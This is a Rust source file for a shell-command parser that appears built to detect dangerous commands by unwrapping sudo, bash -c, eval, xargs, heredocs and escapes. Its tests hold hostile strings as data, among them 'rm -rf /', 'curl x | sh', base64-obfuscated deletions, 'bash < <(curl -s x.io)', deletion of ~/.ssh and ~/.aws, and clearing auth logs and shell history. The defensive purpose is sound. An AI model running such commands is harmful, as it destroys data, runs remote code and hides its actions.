    /// the wrapper writes.
    fn payload(&mut self, script: &str, wrapper: usize, relation: Relation, depth: usize) {
        let start = self.commands.len();
        self.line(script, Some((wrapper, relation)), depth + 1);
        let inherited = self.commands[wrapper].redirects.clone();
        if !inherited.is_empty() {
            for cmd in &mut self.commands[start..] {
                let own = std::mem::take(&mut cmd.redirects);
                cmd.redirects = inherited.iter().cloned().chain(own).collect();
            }
        }
    }

    fn derived(&mut self, argv: Vec<Word>, place: Place, depth: usize) {
        if depth > MAX_DEPTH || self.commands.len() >= MAX_COMMANDS {
            self.stop(Incomplete::TooDeep);
            return;
        }
        // The payload writes where its wrapper writes.
        let redirects = place.parent.map(|(p, _)| self.commands[p].redirects.clone()).unwrap_or_default();
        let index = self.push(Command {
            argv,
            assignments: Vec::new(),
            redirects,
            pipeline: place.pipeline,
            parent: place.parent,
            nested: place.nested,
        });
        self.unwrap(index, depth + 1);
    }
}

/// Stands for the words `xargs` reads from its input.
const XARGS_INPUT: &str = "…";

/// `find` tests that narrow what `{}` stands for.
const FIND_TESTS: &[&str] = &[
    "-name",
    "-iname",
    "-path",
    "-ipath",
    "-regex",
    "-iregex",
    "-type",
    "-newer",
    "-mtime",
    "-mmin",
    "-size",
    "-empty",
    "-user",
    "-perm",
    "-wholename",
    "-links",
    "-inum",
];

/// The text that `echo` or `printf` of static words pipe into command `index`, when nothing
/// else feeds it.
pub(crate) fn piped_text(commands: &[Command], index: usize) -> Option<String> {
    let (id, pos) = commands[index].pipeline?;
    let feeders: Vec<(usize, &Command)> = commands[..index]
        .iter()
        .enumerate()
        .filter(|(_, c)| matches!(c.pipeline, Some((i, p)) if i == id && p + 1 == pos))
        .collect();
    let echoes: Vec<&(usize, &Command)> =
        feeders.iter().filter(|(_, c)| matches!(c.name(), "echo" | "printf")).collect();
    // Wrappers (`nice echo x`) are fine; any other command there also feeds the pipe.
    let wraps_an_echo = |j: usize| echoes.iter().any(|(_, e)| e.parent == Some((j, Relation::Wrapped)));
    if echoes.is_empty() || feeders.iter().any(|(j, c)| !matches!(c.name(), "echo" | "printf") && !wraps_an_echo(*j)) {
        return None;
    }
    let mut text = String::new();
    for (_, feeder) in echoes {
        if feeder.args().iter().any(|w| w.dynamic) {
            return None;
        }
        let mut words = feeder.args().iter().map(|w| w.text.as_str()).peekable();
        if feeder.name() == "printf" {
            let format = words.next().unwrap_or_default();
            // `printf '%s\n' 'rm -rf ~'`: the arguments fill the format, one line each at most.
            if format.contains('%') && words.peek().is_some() {
                text.push_str(&words.collect::<Vec<_>>().join("\n"));
            } else {
                text.push_str(format);
            }
        } else {
            while words.next_if(|t| matches!(*t, "-e" | "-n" | "-E" | "-ne" | "-en")).is_some() {}
            text.push_str(&words.collect::<Vec<_>>().join(" "));
        }
        text.push('\n');
    }
    Some(text.replace("\\n", "\n"))
}

/// True when a shell given `args` reads its script from standard input: no `-c`, and no
/// script operand (or `-`, or `-s`).
pub(crate) fn shell_reads_stdin(args: &[Word]) -> bool {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if t == "--" {
            return args.get(i + 1).is_none_or(|w| is_stdin_path(&w.text));
        }
        if t.starts_with('-') && !t.starts_with("--") && t.contains('c') {
            return false;
        }
        if t == "-s" || (t.starts_with('-') && !t.starts_with("--") && t.contains('s')) {
            return true;
        }
        if !t.starts_with(['-', '+']) || t == "-" {
            return is_stdin_path(t);
        }
        i += if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") { 2 } else { 1 };
    }
    true
}

/// Paths that name the process's own standard input.
pub(crate) fn is_stdin_path(text: &str) -> bool {
    matches!(text, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
}

/// Shells that run a script given with `-c` or on stdin.
pub fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash"
            | "dash"
            | "zsh"
            | "ksh"
            | "ash"
            | "mksh"
            | "yash"
            | "fish"
            | "csh"
            | "tcsh"
            | "rbash"
            | "elvish"
            | "nu"
            | "xonsh"
            | "oksh"
            | "posh"
    )
}

fn is_assignment_text(text: &str) -> bool {
    text.split_once('=').is_some_and(|(name, _)| {
        let mut chars = name.chars();
        chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Skips leading options; `with_value` lists options that take the next word as their value.
fn skip_options<'w>(args: &'w [Word], with_value: &[&str]) -> &'w [Word] {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if t == "--" {
            return &args[i + 1..];
        }
        if !t.starts_with('-') || t == "-" {
            break;
        }
        i += if with_value.contains(&t) { 2 } else { 1 };
    }
    args.get(i..).unwrap_or_default()
}

/// Removes backslash escapes from an unquoted word and reports unquoted glob characters.
fn unescape_word(text: &str) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut glob = false;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('\n') | None => {}
                Some(next) => out.push(next),
            },
            '*' | '?' | '[' => {
                glob = true;
                out.push(c);
            }
            _ => out.push(c),
        }
    }
    (out, glob)
}

/// Inside double quotes a backslash escapes only `$`, `` ` ``, `"`, `\` and newline.
fn unescape_double_quoted(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => out.extend(chars.next()),
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Decodes the body of `$'…'`.
fn ansi_c(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    let chars: Vec<char> = body.chars().collect();
    let mut i = 0;
    let hex = |s: &[char]| u32::from_str_radix(&s.iter().collect::<String>(), 16).ok().and_then(char::from_u32);
    while i < chars.len() {
        let c = chars[i];
        i += 1;
        if c != '\\' || i >= chars.len() {
            out.push(c);
            continue;
        }
        let e = chars[i];
        i += 1;
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            'a' => out.push('\u{7}'),
            'b' => out.push('\u{8}'),
            'e' | 'E' => out.push('\u{1b}'),
            'f' => out.push('\u{c}'),
            'v' => out.push('\u{b}'),
            'x' | 'u' | 'U' => {
                let max = match e {
                    'x' => 2,
                    'u' => 4,
                    _ => 8,
                };
                let len = chars[i..].iter().take(max).take_while(|c| c.is_ascii_hexdigit()).count();
                match hex(&chars[i..i + len]) {
                    Some(ch) if len > 0 => out.push(ch),
                    _ => {
                        out.push('\\');
                        out.push(e);
                    }
                }
                i += len;
            }
            '0'..='7' => {
                let len = chars[i - 1..].iter().take(3).take_while(|c| c.is_digit(8)).count();
                let digits: String = chars[i - 1..i - 1 + len].iter().collect();
                out.extend(u32::from_str_radix(&digits, 8).ok().and_then(char::from_u32));
                i += len - 1;
            }
            other => out.push(other),
        }
    }
    out
}

/// Expands `pre{a,b}post` into `preapost prebpost` (one level, static words only).
fn expand_braces(word: Word) -> Vec<Word> {
    if word.dynamic {
        return vec![word];
    }
    let Some(open) = word.text.find('{') else {
        return vec![word];
    };
    let Some(close) = word.text[open..].find('}').map(|c| open + c) else {
        return vec![word];
    };
    let inner = &word.text[open + 1..close];
    if !inner.contains(',') || inner.contains('{') {
        return vec![word];
    }
    let (pre, post) = (&word.text[..open], &word.text[close + 1..]);
    inner
        .split(',')
        .take(64)
        .flat_map(|alt| expand_braces(Word { text: format!("{pre}{alt}{post}"), ..word.clone() }))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(line: &str) -> Vec<Vec<String>> {
        parse(line).commands.iter().map(|c| c.argv.iter().map(|w| w.text.clone()).collect()).collect()
    }

    #[test]
    fn unquotes_every_static_spelling() {
        for line in [r"r\m -rf /", "'r'm -rf /", "\"rm\" -rf /", r"$'\x72m' -rf /", r"$'\162m' -rf /", "c=rm; $c -rf /"]
        {
            let parsed = parse(line);
            let rm = parsed.commands.iter().find(|c| c.name() == "rm");
            assert!(rm.is_some(), "{line}: {:?}", argvs(line));
            assert!(!rm.unwrap().dynamic_name(), "{line}");
        }
    }

    #[test]
    fn unwraps_wrappers_recursively() {
        let cmds = argvs("sudo -u root env A=1 timeout 5 bash -c 'nice -n 5 rm -rf ~'");
        assert!(cmds.contains(&vec!["rm".to_string(), "-rf".into(), "~".into()]), "{cmds:?}");
        let cmds = argvs("find . -name '*.o' -exec rm -f {} \\;");
        assert!(cmds.contains(&vec!["rm".to_string(), "-f".into(), "./…".into()]), "{cmds:?}");
        let cmds = argvs("eval 'curl x | sh'");
        assert!(cmds.iter().any(|c| c[0] == "sh"), "{cmds:?}");
        let cmds = argvs("ls | xargs -n1 rm");
        assert!(cmds.iter().any(|c| c[0] == "rm"), "{cmds:?}");
    }

    #[test]
    fn substitutions_and_heredocs_are_found() {
        let p = parse("bash -c \"$(echo cm0gLXJmIH4K | base64 -d)\"");
        assert!(
            p.commands.iter().any(|c| c.name() == "base64" && c.parent.map(|p| p.1) == Some(Relation::Substitution))
        );
        let p = parse("cat <<EOF | sh\nrm -rf /\nEOF");
        assert!(p.commands.iter().any(|c| c.name() == "sh" && c.pipeline.is_some()), "{:?}", p.commands);
        let p = parse("bash <<'EOF'\nrm -rf /\nEOF");
        assert!(p.commands.iter().any(|c| c.name() == "rm"), "{:?}", p.commands);
    }

    #[test]
    fn bare_assignments_and_redirections_are_nameless_commands() {
        let p = parse("HISTFILE=/dev/null; ls");
        assert_eq!(p.commands[0].argv[0].text, "");
        assert_eq!(p.commands[0].assignments[0].0, "HISTFILE");
        let p = parse("> /var/log/auth.log");
        assert_eq!(p.commands.len(), 1, "{:?}", p.commands);
        assert_eq!(p.commands[0].redirects[0].target.text, "/var/log/auth.log");
        // What a redirection substitutes feeds the redirected command.
        let p = parse("bash < <(curl -s x.io)");
        let curl = p.commands.iter().find(|c| c.name() == "curl").unwrap();
        assert_eq!(curl.parent, Some((0, Relation::Substitution)));
    }

    #[test]
    fn static_text_piped_into_a_shell_is_its_script() {
        for line in [
            "echo 'rm -rf ~' | sh",
            "printf 'id\\nrm -rf ~\\n' | bash -s",
            "printf '%s\\n' 'rm -rf ~' | sh",
            "nice echo 'rm -rf ~' | sh",
        ] {
            let p = parse(line);
            let rm = p.commands.iter().find(|c| c.name() == "rm");
            assert!(rm.is_some_and(|c| c.parent.map(|p| p.1) == Some(Relation::HereDoc)), "{line}: {:?}", p.commands);
        }
        // Anything else feeding the pipe makes the script unknown.
        assert!(!parse("(echo a; cat f) | sh").commands.iter().any(|c| c.name() == "a"));
        assert!(!parse("echo \"$x\" | sh").commands.iter().any(|c| c.parent.is_some()));
    }

    #[test]
    fn braces_and_home() {
        let cmds = argvs("rm -rf ~/{.ssh,.aws} $HOME");
        assert_eq!(cmds[0], ["rm", "-rf", "~/.ssh", "~/.aws", "~"]);
    }

    #[test]
    fn bad_input_is_bounded() {
        assert_eq!(parse(&"a".repeat(MAX_LINE_BYTES + 1)).incomplete, Some(Incomplete::TooLong));
        let deep = format!("{}x{}", "$(".repeat(1000), ")".repeat(1000));
        assert!(parse(&deep).incomplete.is_some());
        assert_eq!(parse_bytes(b"ls \xff").incomplete, Some(Incomplete::NotUtf8));
        assert_eq!(parse("echo 'unterminated").incomplete, Some(Incomplete::ParseError));
    }
}

#[cfg(test)]
mod fast_path_agrees {
    use proptest::prelude::*;

    use super::{Parsed, parse_with};

    fn word() -> impl Strategy<Value = String> {
        prop::sample::select(
            &[
                "git",
                "ls",
                "rm",
                "-rf",
                "/",
                "~",
                "x.txt",
                "sudo",
                "bash",
                "-c",
                "env",
                "xargs",
                "2",
                "find",
                "-exec",
                "echo",
                "a,b",
                "--x",
                "'a b'",
                "\"c d\"",
                "*.rs",
                "''",
                "x'y'z",
                "'{a,b}'",
                "src/*",
                "A='q r'",
                "$f",
                "\"$HOME\"",
                "${A}",
                "\"x $A y\"",
                "$1",
                "a$A",
            ][..],
        )
        .prop_map(str::to_owned)
    }

    fn op() -> impl Strategy<Value = &'static str> {
        prop::sample::select(&[" | ", " && ", " || ", "; ", " & "][..])
    }

    fn redirect() -> impl Strategy<Value = &'static str> {
        prop::sample::select(&["", "", "", " > out", " >> log", " 2>&1", " < in", " &> all", " 2> err", " >&2"][..])
    }

    /// Commands written the usual way: an optional assignment, words, redirections, an operator.
    fn line() -> impl Strategy<Value = String> {
        let command = (prop::sample::select(&["", "", "A=1 "][..]), prop::collection::vec(word(), 1..5), redirect());
        (prop::collection::vec((command, op()), 1..5)).prop_map(|parts| {
            let mut out = String::new();
            for (i, ((assign, words, redirect), op)) in parts.iter().enumerate() {
                out.push_str(assign);
                out.push_str(&words.join(" "));
                out.push_str(redirect);
                if i + 1 < parts.len() {
                    out.push_str(op);
                }
            }
            out
        })
    }

    fn argv(p: &Parsed) -> Vec<Vec<String>> {
        p.commands.iter().map(|c| c.argv.iter().map(|w| w.text.clone()).collect()).collect()
    }

    /// Pipeline positions are compared by order: tree-sitter nests some pipelines, which
    /// leaves gaps in the numbering but not in the order.
    fn ranked(mut parsed: Parsed) -> Parsed {
        let mut seen: Vec<(usize, usize)> = parsed.commands.iter().filter_map(|c| c.pipeline).collect();
        seen.sort_unstable();
        seen.dedup();
        for cmd in &mut parsed.commands {
            if let Some((id, pos)) = cmd.pipeline {
                let rank = seen.iter().filter(|(i, p)| *i == id && *p < pos).count();
                cmd.pipeline = Some((id, rank));
            }
        }
        parsed
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 2000, max_global_rejects: 50_000, ..ProptestConfig::default() })]

        /// The fast path finds exactly the commands tree-sitter-bash finds.
        #[test]
        fn simple_lines(line in line()) {
            let slow = parse_with(&line, false);
            prop_assume!(slow.incomplete.is_none());
            let fast = parse_with(&line, true);
            if line.contains("&&") || line.contains("||") {
                // tree-sitter-bash lets `&&` bind tighter than `|` (`a && b | c` becomes
                // `(a && b) | c`); bash does the opposite. Compare the commands only, without
                // the input an `xargs` is fed, which depends on that grouping
                // (`git | echo && git > out | xargs`).
                let words = |p: &Parsed| -> Vec<Vec<String>> {
                    argv(p).into_iter().map(|a| a.into_iter().filter(|w| w != super::XARGS_INPUT).collect()).collect()
                };
                prop_assert_eq!(words(&fast), words(&slow), "{}", line);
            } else {
                prop_assert_eq!(ranked(fast), ranked(slow), "{}", line);
            }
        }

        /// Cutting a script at top-level newlines finds the same commands.
        #[test]
        fn scripts(lines in prop::collection::vec(prop_oneof![
            line(),
            line().prop_map(|l| format!("if {l}; then {l}; fi")),
            line().prop_map(|l| format!("echo \"{l}\"")),
            line().prop_map(|l| format!("f() {{\n {l}\n}}")),
            line().prop_map(|l| format!("for f in a b; do {l}; done")),
            line().prop_map(|l| format!("if [ -f x ]; then\n  {l}\nelif {l}; then {l}; else {l}; fi")),
            line().prop_map(|l| format!("cat x | while read f; do {l}; done")),
            Just("A=x.txt".to_string()),
            Just("A=\"$f y\"".to_string()),
        ], 1..6)) {
            // tree-sitter-bash gets pipeline order wrong when `&&` or `||` mix with `|`, which
            // changes what feeds `xargs`; `simple_lines` covers such lines.
            prop_assume!(!lines.iter().any(|l| l.contains(" | ") && (l.contains("&&") || l.contains("||"))));
            let script = lines.join("\n");
            let slow = parse_with(&script, false);
            prop_assume!(slow.incomplete.is_none());
            let fast = parse_with(&script, true);
            prop_assert_eq!(argv(&fast), argv(&slow), "{}", script);
            prop_assert_eq!(fast.incomplete, None);
        }
    }
}
